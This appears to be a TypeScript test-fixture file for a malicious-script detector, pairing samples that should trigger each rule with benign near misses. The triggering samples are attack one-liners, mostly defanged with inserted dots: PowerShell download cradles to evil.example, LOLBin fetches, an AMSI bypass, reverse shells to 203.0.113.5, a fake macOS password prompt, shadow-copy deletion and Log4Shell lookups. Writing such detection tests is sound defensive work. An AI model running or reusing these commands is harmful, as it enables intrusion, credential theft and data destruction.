import type { RuleSample } from "./rule-samples.ts";
import { text, wide } from "./sample-text.ts";

const base64 = Buffer.from("Write-Output 'nothing to see here, move along'", "utf16le").toString(
  "base64",
);

export const scriptSamples: Readonly<Record<string, RuleSample>> = {
  powershell_encoded_command: {
    found: [
      text(`power·shell.exe -NoP -W Hidden -e·nc ${base64}`),
      text(`@start /b power·shell -Encoded·Command "${base64}"`),
      wide(`pw·sh -e·c ${base64}`),
    ],
    nearMiss: [
      text(
        "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup-everything-tonight.ps1",
      ),
      text(`The parameter -EncodedCommand takes Base64 such as ${base64}`),
    ],
  },
  powershell_downloads_and_runs: {
    found: [
      text(
        "power·shell -w hid·den I·EX (New-Object Net.Web·Client).Download·String('http://evil.example/a.ps1')",
      ),
      text("power·shell -Window·Style Hidden i·wr https://evil.example/a.ps1 | i·ex"),
      text("# -w 1\n$w.Download·File('http://evil.example/a.exe', $p); Start-·Process $p"),
    ],
    nearMiss: [
      text(
        "i·ex ((New-Object Net.Web·Client).Download·String('https://good.example/install.ps1'))",
      ),
      text("Invoke-WebRequest https://good.example/list.csv -OutFile list.csv"),
      text("$c = New-Object Net.WebClient; $c.DownloadFile('https://good.example/a.zip', 'a.zip')"),
    ],
  },
  powershell_switches_off_scanning: {
    found: [
      text(
        "[Ref].Assembly.GetType('System.Management.Automation.Amsi·Utils').GetField('amsi·InitFailed')",
      ),
      text("Add-Type $c; $a = GetProc 'Amsi·ScanBuffer'; [W]::Virtual·Protect($a)"),
    ],
    nearMiss: [text("AMSI is the interface through which AmsiScanBuffer is called by programs")],
  },
  script_fetches_with_system_tool: {
    found: [
      text("cert·util -url·cache -split -f http://evil.example/a.exe a.exe"),
      text("bits·admin /trans·fer j /download http://evil.example/a.exe c:\\a.exe"),
      text("ms·hta https://evil.example/a.hta"),
      text("regsvr·32 /s /n /u /i:http://evil.example/a.sct scrobj.dll"),
      text('run·dll32 javascript:"\\..\\mshtml,RunHTMLApplication"'),
      text('wm·ic os get /format:"http://evil.example/a.xsl"'),
      text("msi·exec /q /i http://evil.example/a.msi"),
    ],
    nearMiss: [
      text("certutil -hashfile setup.exe SHA256"),
      text("certutil -addstore root ca.cer"),
      text("regsvr32 /s C:\\windows\\system32\\msxml3.dll"),
      text("msiexec /i package.msi /qn"),
    ],
  },
  script_decodes_with_certutil: {
    found: [text("echo TVqQ·AAMAAAA>a.txt\r\ncert·util -dec·ode a.txt a.exe\r\n")],
    nearMiss: [text("echo aGVsbG8gd29ybGQ=>a.txt\r\ncertutil -decode a.txt hello.txt\r\n")],
  },
  script_host_dropper: {
    found: [
      text(
        'var h = new Active·XObject("MSXML2·.XM·LHTTP"); var s = new Active·XObject("ADODB·.Stream"); s.SaveTo·File(p); sh.Run(p);',
      ),
      text(
        'Set h = Create·Object("Microsoft·.XM·LHTTP")\r\nSet s = Cr·eateObject("WScript·.Sh·ell")\r\ns.Run "a.exe"',
      ),
    ],
    nearMiss: [
      text(
        'var request = window.XMLHttpRequest ? new XMLHttpRequest() : new Ac·tiveXObject("Microsoft.XM·LHTTP");',
      ),
      text('Set s = Cr·eateObject("WScript.Sh·ell")\r\nMsgBox s.CurrentDirectory'),
    ],
  },
  script_host_runs_hidden_command: {
    found: [text('Create·Object("WScript·.Sh·ell").Run "power·shell -w hidden", 0')],
    nearMiss: [text('Cr·eateObject("WScript.Sh·ell").Run "notepad.exe readme.txt", 1')],
  },
  hta_application: {
    found: [
      text('<hta:appli·cation id="a"/><scr·ipt>new Ac·tiveXObject("WScript·.Sh·ell")</·script>'),
    ],
    nearMiss: [text('<ht·a:application id="clock"/><script>setInterval(draw, 1000)</·script>')],
  },
  script_unpacks_itself: {
    found: [
      text(`ev·al(unes·cape("${"%61".repeat(80)}"))`),
      text(`ev·al(String.from·CharCode(${"97, ".repeat(80)}97))`),
      text(`Exe·cute(${"Chr(97) & ".repeat(40)}Chr(97))`),
    ],
    nearMiss: [
      text(`document.title = un·escape("${"%61".repeat(80)}")`),
      text("const letters = String.fromCharCode(97, 98, 99);"),
    ],
  },
  reverse_shell_unix: {
    found: [
      text("ba·sh -i >& /dev/t·cp/203.0.113.5/4444 0>&1"),
      text("exec 5<>/dev/t·cp/evil.example/4444; cat <&5 | while read l; do $l; done"),
      text("n·c -e /bin/sh 203.0.113.5 4444"),
      text("mk·fifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n·c 203.0.113.5 4444 > /tmp/f"),
      text("so·cat exec:'bash -li',pty tc·p:203.0.113.5:4444"),
    ],
    nearMiss: [
      text("nc -z db.example 5432 && echo ready"),
      text("timeout 1 bash -c '</dev/tcp/db.example/5432' && echo ready"),
      text("mkfifo /tmp/log; tee /tmp/copy < /tmp/log"),
    ],
  },
  reverse_shell_interpreter: {
    found: [
      text(
        'import socket,subprocess,os;s=socket.soc·ket();s.connect(("203.0.113.5",4444));os.du·p2(s.fileno(),0);subprocess.ca·ll(["/bin/sh","-i"])',
      ),
      text(
        'use Socket;soc·ket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STD·IN,">&S");open(STDOUT,">&S");ex·ec("/bin/sh -i");',
      ),
      text('<?php $s=fsock·open("203.0.113.5",4444);ex·ec("/bin/sh -i <&3 >&3 2>&3"); ?>'),
      text('c=TCPSoc·ket.new("203.0.113.5","4444");while(l=c.gets);IO.po·pen("cmd",l)end'),
    ],
    nearMiss: [
      text("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8080))\ns.listen()"),
      text("import subprocess\nsubprocess.run(['/bin/sh', '-c', 'make'])"),
      text('<?php $s = fs·ockopen("mail.example", 25); fgets($s); exec("ls"); ?>'),
    ],
  },
  reverse_shell_powershell: {
    found: [
      text(
        "$c = New-Object System.Net.Soc·kets.TCP·Client('203.0.113.5',4444);$s = $c.GetStr·eam();$o = (i·ex $d | Out-String)",
      ),
    ],
    nearMiss: [
      text("$c = New-Object System.Net.Sockets.TCPClient('db.example',5432); $c.Connected"),
    ],
  },
  script_steals_mac_password: {
    found: [
      text(
        'osascript -e \'display dia·log "macOS needs your pa·ssword" default answer "" with hidden ans·wer\'; dscl . auth·only $U $P',
      ),
    ],
    nearMiss: [
      text('display dialog "Name of the share" default answer "public"'),
      text("security find-generic-pa·ssword -s backup"),
    ],
  },
  script_destroys_backups: {
    found: [
      text("vss·admin delete sha·dows /all /quiet & bcd·edit /set {default} recovery·enabled no"),
    ],
    nearMiss: [
      text("vssadmin list shadows"),
      text("To make room, an administrator can run vssadmin delete shadows /all"),
    ],
  },
  log4j_lookup: {
    found: [
      text("User-Agent: $·{jndi:ldap://evil.example/a}"),
      text("q=$·{$·{lower:j}$·{lower:n}di:ldap://evil.example/a}"),
    ],
    nearMiss: [
      text("logger.info(`$·{user.name} signed in from $·{address}`)"),
      text("$·{jndi:} is no lookup"),
    ],
  },
};
